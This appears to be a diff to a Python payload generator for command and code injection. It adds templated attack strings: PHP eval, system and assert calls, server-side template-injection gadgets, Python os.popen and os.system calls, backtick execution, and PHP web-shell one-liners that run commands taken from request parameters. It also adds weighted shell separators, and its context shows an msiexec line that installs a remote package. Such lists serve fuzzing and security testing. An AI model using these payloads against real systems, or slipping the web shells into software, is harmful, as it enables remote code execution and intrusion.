@@ -131,6 +131,9 @@ _WIN = (
     "C:\\Windows\\System32\\whoami.exe", "%SystemRoot%\\System32\\cmd.exe /c whoami", "msiexec /q /i {url}/{w}.msi",
 )  # fmt: skip
 _CODE = (  # code injection that runs OS commands
+    ";phpinfo();//", ";phpinfo()", "{{${{sleep({n})}}}}", "${{@print(md5({n}))}}", "{{${{system('{scmd}')}}}}", ":phpversion();", "{{${{phpinfo()}}}}", "${{@print(system($_SERVER['HTTP_USER_AGENT']))}}", "eval('{scmd}')",
+    "system('{scmd}');", "assert('system(\"{scmd}\")')", "preg_replace('/.*/e','system(\"{scmd}\")','')", "';eval($_GET[c]);//",
+    "print(__import__('os').popen('{scmd}').read())", "os.system('{scmd}')", "`{scmd}`", "$(`{scmd}`)", "\";system('{scmd}');#",
     ";system('{scmd}');", "${{@system(\"{scmd}\")}}", "';system('{scmd}');//", "\".system('{scmd}').\"",
     "<?php system('{scmd}'); ?>", "<?php echo shell_exec($_GET['c']); ?>", "<?=`{scmd}`?>", "<?php passthru('{scmd}');?>",
     "{{{{config.__class__.__init__.__globals__['os'].popen('{scmd}').read()}}}}",
@@ -438,6 +441,7 @@ _UNIX_SEPS = (
     (";", 5.0), ("; ", 3.0), ("|", 3.0), (" | ", 1.5), ("||", 2.0), (" || ", 1.0), ("&", 1.5), ("&&", 2.0),
     (" && ", 1.5), ("\n", 2.0), ("\r\n", 0.5), ("%0a", 1.0), ("%0A", 0.4), ("%0d%0a", 0.3), (" ; ", 1.0),
     ("&;", 0.2), ("\n\n", 0.2), (";\n", 0.2), ("|| ", 0.4), ("%26%26", 0.2), ("%7c", 0.2), ("%3b", 0.3),
+    (" %0a ", 0.3), ("\\n", 0.3), ("\\r\\n", 0.1), ("\t;", 0.1), ("\r", 0.2),
 )  # fmt: skip
 _WIN_SEPS = (
     ("&", 5.0), ("&&", 3.0), (" & ", 2.0), ("|", 3.0), ("||", 1.5), (" | ", 1.0), ("\n", 1.0), ("%0a", 0.5),
